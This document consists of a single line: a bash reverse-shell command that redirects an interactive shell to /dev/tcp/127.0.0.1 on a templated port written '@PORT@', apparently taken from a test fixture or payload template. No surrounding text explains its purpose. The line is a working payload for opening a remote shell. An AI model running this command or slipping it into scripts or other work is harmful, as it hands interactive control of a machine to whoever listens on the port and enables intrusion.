bash -c 'bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'
